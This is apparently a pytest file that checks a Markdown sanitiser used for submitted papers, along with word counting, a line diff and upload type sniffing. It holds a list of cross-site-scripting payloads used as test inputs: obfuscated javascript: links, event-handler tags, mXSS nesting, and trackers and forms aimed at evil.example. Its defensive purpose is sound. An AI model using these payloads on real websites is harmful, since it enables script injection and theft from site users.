"""The paper sanitiser against hostile Markdown, word counts, the diff and upload sniffing."""

from __future__ import annotations

import io
import re
import zipfile
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from delegates import paper_text
from tests.paper_helpers import PDF_BYTES, make_docx

# Inputs that must never give script, handlers, javascript: links or remote images.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href='#' onclick='alert(1)'>x</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x73;cript:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](  javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<object data=evil.swf></object>",
    "<embed src=evil.swf>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    '[a](javascript:alert(1) "title")',
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/track.png)",
    '![x](http://evil.example/track.png "t")',
    "![x][img]\n\n[img]: //evil.example/p.png",
    "<img src=https://evil.example/p.png>",
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '<a href="javascript:alert(1)">x</a>',
    "<form action=https://evil.example><input name=a></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<!-- <script>alert(1)</script> -->",
    "<details open ontoggle=alert(1)>",
    "\u0000<script>alert(1)</script>",
]


class _Elements(HTMLParser):
    """Every element and attribute of an HTML fragment, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {k: v or "" for k, v in attrs}))


def _active_content(html: str) -> list[str]:
    parser = _Elements()
    parser.feed(html)
    problems = []
    for tag, attrs in parser.found:
        if tag not in paper_text.ALLOWED_TAGS:
            problems.append(f"tag {tag}")
        for name, value in attrs.items():
            if name.startswith("on") or name in ("src", "style", "srcset"):
                problems.append(f"attribute {name}")
            # Absolute links only with http(s)/mailto; relative ones (no scheme) stay on the site.
            scheme = re.match(r"^\s*([a-z][a-z0-9+.\-]*):", value, re.I)
            if name == "href" and scheme and scheme.group(1).lower() not in ("http", "https", "mailto"):
                problems.append(f"href {value}")
    return problems


@pytest.mark.parametrize("text", HOSTILE)
def test_rendered_hostile_markdown_has_no_active_content(text):
    html = paper_text.render_markdown(text)
    assert _active_content(html) == [], html
    assert "<img" not in html


def test_the_checker_itself_sees_active_content():
    assert _active_content('<img src="x" onerror="y"><a href="javascript:x">a</a>') == [
        "tag img",
        "attribute src",
        "attribute onerror",
        "href javascript:x",
    ]


@pytest.mark.parametrize(
    "text",
    [t for t in HOSTILE if not t.startswith(("!", "`", "```")) and "evil.example/p.png" not in t],
)
def test_scripted_markdown_is_refused(text):
    assert paper_text.hostile_reason(text), text


@pytest.mark.parametrize(
    "text",
    [
        "# Kenya\n\nKenya supports **regional** cooperation against cybercrime.",
        "We cite [INTERPOL](https://www.interpol.int) and [mail](mailto:a@b.org).",
        "JavaScript is a language; scripts in films are not.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "Onboarding = one ongoing effort",
    ],
)
def test_ordinary_markdown_is_accepted_and_rendered(text):
    assert paper_text.hostile_reason(text) is None
    html = paper_text.render_markdown(text)
    assert html.strip()


def test_links_keep_http_and_get_rel_noopener():
    html = paper_text.render_markdown("[INTERPOL](https://www.interpol.int)")
    assert 'href="https://www.interpol.int"' in html
    assert "noopener" in html


def test_images_show_as_their_description():
    html = paper_text.render_markdown("![Map of the region](https://evil.example/m.png)")
    assert "<img" not in html and "evil.example" not in html
    assert "[Map of the region]" in html


def test_word_count_ignores_markdown_marks():
    assert (
        paper_text.count_words("# Kenya's policy\n\n- **One** two\n- [three](https://x.org)") == 5
    )
    assert paper_text.count_words("") == 0


def test_side_by_side_marks_changed_added_and_removed_lines():
    rows = paper_text.side_by_side("a\nb\nc\nd", "a\nB\nc\ne\nf")
    kinds = [(r.kind, r.left, r.right) for r in rows]
    assert kinds[0] == ("same", "a", "a")
    assert ("changed", "b", "B") in kinds
    assert ("changed", "d", "e") in kinds
    assert ("added", "", "f") in kinds
    assert paper_text.side_by_side("x", "x")[0].kind == "same"
    assert [r.kind for r in paper_text.side_by_side("x\ny", "x")] == ["same", "removed"]


def test_upload_is_sniffed_by_content():
    assert paper_text.check_upload(io.BytesIO(PDF_BYTES)).kind == "pdf"
    checked = paper_text.check_upload(io.BytesIO(make_docx("Kenya supports", "cooperation.")))
    assert checked.kind == "docx"
    assert checked.text == "Kenya supports\ncooperation."


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<html><script>alert(1)</script></html>",
        b"MZ\x90\x00 an executable",
        b"PK\x03\x04 not really a zip",
        b"\x89PNG\r\n\x1a\n",
    ],
)
def test_upload_of_other_kinds_is_refused(data):
    with pytest.raises(paper_text.UploadRefused):
        paper_text.check_upload(io.BytesIO(data))


def test_a_zip_that_is_not_a_word_document_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "hi")
    with pytest.raises(paper_text.UploadRefused, match="not a PDF or a Word"):
        paper_text.check_upload(io.BytesIO(out.getvalue()))


def test_upload_over_five_megabytes_is_refused():
    big = PDF_BYTES + b"0" * (5 * 1024 * 1024)
    with pytest.raises(paper_text.UploadRefused, match="5 MB"):
        paper_text.check_upload(io.BytesIO(big))


_PIECES = st.sampled_from(
    [
        "<script>",
        "</script>",
        "<img src=x ",
        "onerror=",
        "onload=",
        "javascript:",
        "java&#x73;cript:",
        "[a](",
        ")",
        "![i](",
        "http://evil.example/x.png",
        "<a href=",
        '"',
        "'",
        ">",
        "<",
        "&#",
        ";",
        "\n",
        " ",
        "**",
        "`",
        "<svg",
        "<iframe",
        "style=",
        "data:text/html,",
        "\\",
        "[r]: ",
        "\u0000",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(_PIECES, st.text(max_size=5)), max_size=30).map("".join))
def test_no_markdown_at_all_renders_active_content(text):
    html = paper_text.render_markdown(text)
    assert _active_content(html) == [], (text, html)
